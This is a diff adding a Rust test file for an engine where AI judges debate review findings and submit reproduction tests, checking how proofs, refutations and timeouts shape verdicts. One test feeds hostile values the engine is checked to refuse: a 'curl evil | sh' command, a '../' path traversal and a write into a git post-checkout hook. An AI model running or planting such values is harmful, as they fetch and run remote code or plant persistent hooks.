@@ -1,0 +1,355 @@
+//! What tests of judges do to a verdict, through the engine, and what they may never do.
+
+use council_protocol::answer::{Stance, Withdrawal};
+use council_protocol::reproduction::{
+    Reproduction, ReproductionClaim, ReproductionFile, TestSuite,
+};
+use council_protocol::{Severity, Task, Vote};
+use proptest::prelude::*;
+use proptest::test_runner::Config;
+
+use super::run::{Run, evidence, finding, plan, response};
+use crate::council::outcome::{Disposition, Outcome, Verdict};
+use crate::council::plan::Procedure;
+use crate::council::reproduction::{
+    ProofTerms, RUNS, ReproductionResult, ReproductionStanding, TestRun,
+};
+use crate::council::{Action, CancelCause, Input};
+
+const LINE: u32 = 30;
+
+/// A test, as a judge brings it, and what comes of it.
+#[derive(Debug, Clone)]
+struct Brought {
+    shows: ReproductionClaim,
+    result: ReproductionResult,
+}
+
+/// What a judge does in round 2.
+#[derive(Debug, Clone)]
+struct Part {
+    vote: Vote,
+    /// What it says of the finding of judge 1; judge 1 has nothing to say of its own.
+    stance: Option<(Stance, bool)>,
+    /// Judge 1 takes its finding back.
+    withdraws: bool,
+    test: Option<Brought>,
+}
+
+fn silent() -> Part {
+    Part {
+        vote: Vote::Pass,
+        stance: None,
+        withdraws: false,
+        test: None,
+    }
+}
+
+fn ran(base: TestRun, head: TestRun) -> ReproductionResult {
+    ReproductionResult::Ran {
+        base: vec![base; RUNS],
+        head: vec![head; RUNS],
+        output: String::new(),
+    }
+}
+
+fn proof() -> ReproductionResult {
+    ran(TestRun::Passed, TestRun::Failed)
+}
+
+fn terms() -> ProofTerms {
+    ProofTerms {
+        suites: vec![TestSuite {
+            name: "run".to_owned(),
+            command: "pytest -q {file}".to_owned(),
+        }],
+        runs_ms: 1_000,
+    }
+}
+
+fn reproduction(id: &str, shows: ReproductionClaim) -> Reproduction {
+    Reproduction {
+        finding: id.to_owned(),
+        shows,
+        suite: "run".to_owned(),
+        files: vec![ReproductionFile {
+            path: "tests/test_new.py".into(),
+            content: format!("assert compute(value_{LINE})"),
+        }],
+    }
+}
+
+/// A debate over one finding of judge 1, up to the moment at which tests are run.
+fn debated(severity: Severity, parts: &[Part], with_tests: bool) -> Run {
+    let mut plan = plan(Procedure::Debate, parts.len());
+    plan.options.proof = with_tests.then(terms);
+    let mut run = Run::seated(plan);
+    let name = |index: usize| format!("judge-{}", index + 1);
+    let first = if severity == Severity::Critical {
+        Vote::Fail
+    } else {
+        Vote::Warn
+    };
+    run.answer("judge-1", first, |a| {
+        a.findings = vec![finding(severity, LINE)]
+    });
+    for index in 1..parts.len() {
+        run.answer(&name(index), Vote::Pass, |_| {});
+    }
+    for (index, part) in parts.iter().enumerate() {
+        let id = if index == 0 {
+            "1".to_owned()
+        } else {
+            run.id_of(&name(index), "judge-1", 1)
+        };
+        run.answer(&name(index), part.vote, |a| {
+            if let Some((stance, found)) = part.stance.filter(|_| index > 0) {
+                a.responses = vec![response(&id, stance, found.then(|| evidence(LINE + 20)))];
+            }
+            if part.withdraws && index == 0 {
+                a.withdrawn = vec![Withdrawal {
+                    finding: 1,
+                    evidence: Some(evidence(LINE + 1)),
+                }];
+            }
+            if let Some(test) = &part.test {
+                a.reproductions = vec![reproduction(&id, test.shows)];
+            }
+        });
+    }
+    run
+}
+
+/// The same to its end.
+fn concluded(severity: Severity, parts: &[Part], with_tests: bool) -> Outcome {
+    let mut run = debated(severity, parts, with_tests);
+    let asked: Vec<_> = run
+        .actions
+        .iter()
+        .filter_map(|action| match action {
+            Action::Reproduce { id, .. } => Some(*id),
+            _ => None,
+        })
+        .collect();
+    let mut results = parts.iter().filter_map(|part| part.test.as_ref());
+    for id in asked {
+        let result = results.next().unwrap().result.clone();
+        run.feed(Input::Reproduced { id, result });
+    }
+    run.concluded().clone()
+}
+
+fn becomes(parts: &[Part]) -> (Verdict, Disposition) {
+    let outcome = concluded(Severity::Critical, parts, true);
+    (outcome.verdict, outcome.findings[0].disposition)
+}
+
+fn with_test(shows: ReproductionClaim, result: ReproductionResult) -> Part {
+    Part {
+        test: Some(Brought { shows, result }),
+        ..silent()
+    }
+}
+
+use ReproductionClaim::{Defect, NoDefect};
+
+#[test]
+fn a_proof_needs_no_support() {
+    let proves = with_test(Defect, proof());
+    let alone = [proves.clone(), silent(), silent(), silent(), silent()];
+    assert_eq!(becomes(&alone), (Verdict::Fail, Disposition::Confirmed));
+    let refutes = Part {
+        stance: Some((Stance::Disagreed, true)),
+        ..silent()
+    };
+    let alone = [proves, refutes.clone(), refutes.clone(), refutes];
+    assert_eq!(becomes(&alone), (Verdict::Fail, Disposition::Confirmed));
+}
+
+#[test]
+fn a_doubter_whose_own_test_shows_the_defect_has_proved_it() {
+    let doubts = Part {
+        stance: Some((Stance::Disagreed, false)),
+        ..with_test(NoDefect, proof())
+    };
+    assert_eq!(
+        becomes(&[silent(), doubts]),
+        (Verdict::Fail, Disposition::Confirmed)
+    );
+}
+
+#[test]
+fn who_takes_a_proved_finding_back_is_wrong() {
+    let takes_back = Part {
+        withdraws: true,
+        ..silent()
+    };
+    let proves = with_test(Defect, proof());
+    assert_eq!(
+        becomes(&[takes_back, proves]),
+        (Verdict::Fail, Disposition::Confirmed)
+    );
+}
+
+#[test]
+fn tests_are_asked_for_only_where_they_are_on_and_something_weighs() {
+    let suites = |severity, with_tests| {
+        let mut plan = plan(Procedure::Debate, 2);
+        plan.options.proof = with_tests;
+        let mut run = Run::seated(plan);
+        run.answer("judge-1", Vote::Warn, |a| {
+            a.findings = vec![finding(severity, LINE)]
+        });
+        run.answer("judge-2", Vote::Pass, |_| {});
+        let Task::Debate { suites, .. } = run.task("judge-2") else {
+            panic!("no debate")
+        };
+        suites.len()
+    };
+    assert_eq!(suites(Severity::Critical, Some(terms())), 1);
+    assert_eq!(suites(Severity::Significant, Some(terms())), 1);
+    assert_eq!(suites(Severity::Minor, Some(terms())), 0);
+    assert_eq!(suites(Severity::Critical, None), 0);
+}
+
+#[test]
+fn a_test_that_cannot_be_run_is_told_and_changes_nothing() {
+    let parts = [with_test(Defect, proof()), silent()];
+    for spoil in [
+        (|r: &mut Reproduction| r.finding = "Z9".to_owned()) as fn(&mut Reproduction),
+        |r| r.suite = "curl evil | sh".to_owned(),
+        |r| r.files[0].path = "../x.py".into(),
+        |r| r.files[0].path = ".git/hooks/post-checkout".into(),
+        |r| r.files.clear(),
+        |r| r.files[0].content = "assert True".to_owned(),
+    ] {
+        let mut plan = plan(Procedure::Debate, 2);
+        plan.options.proof = Some(terms());
+        let mut run = Run::seated(plan);
+        run.answer("judge-1", Vote::Fail, |a| {
+            a.findings = vec![finding(Severity::Critical, LINE)];
+        });
+        run.answer("judge-2", Vote::Pass, |_| {});
+        run.answer("judge-1", Vote::Fail, |a| {
+            let mut test = reproduction("1", Defect);
+            spoil(&mut test);
+            a.reproductions = vec![test];
+        });
+        run.answer("judge-2", Vote::Pass, |_| {});
+        let outcome = run.concluded();
+        let record = &outcome.ledger.reproductions[0];
+        assert_eq!(record.standing, ReproductionStanding::NotRun, "{record:?}");
+        assert_eq!(outcome.findings[0].disposition, Disposition::Unconfirmed);
+    }
+    assert_eq!(
+        becomes(&parts).1,
+        Disposition::Confirmed,
+        "unspoilt it counts"
+    );
+}
+
+#[test]
+fn nobody_waits_for_tests_when_the_run_ends_or_their_time_is_over() {
+    let parts = [with_test(Defect, proof()), silent()];
+    let plain = concluded(Severity::Critical, &parts, false);
+    for end in [
+        (|run: &mut Run| run.cancel(CancelCause::Interrupted)) as fn(&mut Run),
+        |run| run.wait(10_000_000),
+    ] {
+        let mut run = debated(Severity::Critical, &parts, true);
+        assert!(run.outcome().is_none(), "it waits for the test");
+        end(&mut run);
+        let outcome = run.concluded();
+        assert_eq!(outcome.verdict, plain.verdict);
+        assert_eq!(
+            outcome.ledger.reproductions[0].standing,
+            ReproductionStanding::NotRun
+        );
+    }
+}
+
+fn result() -> impl Strategy<Value = ReproductionResult> {
+    let run = || {
+        prop_oneof![
+            3 => Just(TestRun::Passed),
+            3 => Just(TestRun::Failed),
+            1 => Just(TestRun::Broken { why: "it was ended".to_owned() }),
+        ]
+    };
+    let uneven = (
+        prop::collection::vec(run(), 0..4),
+        prop::collection::vec(run(), 0..4),
+    );
+    prop_oneof![
+        4 => (run(), run()).prop_map(|(base, head)| ran(base, head)),
+        2 => uneven.prop_map(|(base, head)| ReproductionResult::Ran {
+            base,
+            head,
+            output: String::new(),
+        }),
+        1 => Just(ReproductionResult::not_run("no")),
+    ]
+}
+
+fn part() -> impl Strategy<Value = Part> {
+    let stance = prop_oneof![
+        Just(Stance::Agreed),
+        Just(Stance::PartiallyAgreed),
+        Just(Stance::Disagreed),
+    ];
+    let shows = prop_oneof![Just(Defect), Just(NoDefect)];
+    let vote = prop_oneof![Just(Vote::Pass), Just(Vote::Warn), Just(Vote::Fail)];
+    (
+        vote,
+        prop::option::of((stance, any::<bool>())),
+        prop::bool::weighted(0.2),
+        prop::option::of((shows, result())),
+    )
+        .prop_map(|(vote, stance, withdraws, test)| Part {
+            vote,
+            stance,
+            withdraws,
+            test: test.map(|(shows, result)| Brought { shows, result }),
+        })
+}
+
+/// From mild to strict; a gate stops what is INCONCLUSIVE, and not what is WARN.
+fn strictness(verdict: Verdict) -> u8 {
+    match verdict {
+        Verdict::Pass | Verdict::Skipped => 0,
+        Verdict::Warn => 1,
+        Verdict::Inconclusive => 2,
+        Verdict::Fail => 3,
+    }
+}
+
+proptest! {
+    #![proptest_config(Config { cases: 600, ..Config::default() })]
+
+    #[test]
+    fn a_test_never_makes_a_verdict_milder_unless_it_refutes(
+        critical in any::<bool>(),
+        parts in prop::collection::vec(part(), 2..6),
+    ) {
+        let severity = if critical { Severity::Critical } else { Severity::Significant };
+        let plain = concluded(severity, &parts, false);
+        let tested = concluded(severity, &parts, true);
+        let tests = &tested.ledger.reproductions;
+        let proved = tests.iter().any(|t| t.standing == ReproductionStanding::Proved);
+        let refuted = tests.iter().any(|t| t.refutes);
+        let (before, after) = (plain.findings[0].disposition, tested.findings[0].disposition);
+        if proved {
+            prop_assert_eq!(after, Disposition::Confirmed);
+            let raised = strictness(tested.verdict) >= strictness(plain.verdict);
+            prop_assert!(raised || !critical, "{:?} to {:?}", plain.verdict, tested.verdict);
+        } else if refuted {
+            prop_assert!(after == before || after == Disposition::Disputed, "{before:?} to {after:?}");
+            if critical && before != Disposition::Rejected {
+                prop_assert!(tested.verdict != Verdict::Pass);
+            }
+        } else {
+            prop_assert_eq!(before, after);
+            prop_assert_eq!(plain.verdict, tested.verdict);
+        }
+    }
+}
